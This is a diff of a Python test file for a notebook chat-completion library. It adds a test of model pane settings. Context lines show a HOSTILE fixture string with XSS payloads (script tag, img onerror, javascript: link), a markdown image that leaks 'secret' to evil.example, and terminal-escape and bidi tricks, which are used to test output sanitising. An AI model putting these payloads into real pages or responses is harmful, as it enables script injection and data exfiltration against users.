@@ -5,6 +5,7 @@ import pytest
 from IPython.core.formatters import DisplayFormatter
 from markdown_it import MarkdownIt
 
+from nbkit.adapters.factory import get_adapter
 from nbkit.bulk.answers import Answer, Pane
 from nbkit.conversation.completion import Bill, Change, ChatCompletion, Timing, Usage
 from nbkit.conversation.content import Reasoning
@@ -12,7 +13,7 @@ from nbkit.conversation.tools import ToolCall
 from nbkit.conversation.turns import Conversation
 from nbkit.errors import ApiKeyNotFoundError, BadRequestError, RateLimitError, StreamError
 from nbkit.notebook.export import write_bundle
-from nbkit.notebook.facts import describe_end, explain_error, list_facts, list_notes
+from nbkit.notebook.facts import describe_end, describe_pane, explain_error, list_facts, list_notes
 
 HOSTILE = """<img src=x onerror=alert(1)> <script>alert(2)</script> [click](javascript:alert(3))
 ![leak](https://evil.example/?q=secret) \x1b[31mred\x1b[0m \u202egnp
@@ -186,3 +187,13 @@ def test_a_completion_is_shown_in_its_cell_as_everywhere_else():
     assert shown["text/markdown"].startswith("```text\n")
     assert "\x1b" not in shown["text/plain"]
     assert "cost ≈ $0.0020" in shown["text/plain"]
+
+
+def test_a_pane_offers_the_settings_that_its_model_takes():
+    swift, scholar = (Pane(model, get_adapter(model)) for model in ("demo/swift", "demo/scholar"))
+    assert list(describe_pane(swift)["settings"]) == ["temperature", "max_tokens"]
+    assert "medium" in describe_pane(scholar)["settings"]["reasoning_effort"][1]
+    scholar.options = {"reasoning_effort": "xhigh", "temperature": 0}
+    assert describe_pane(scholar)["settings"]["temperature"] == (0, ())
+    value, choices = describe_pane(scholar)["settings"]["reasoning_effort"]
+    assert value in choices
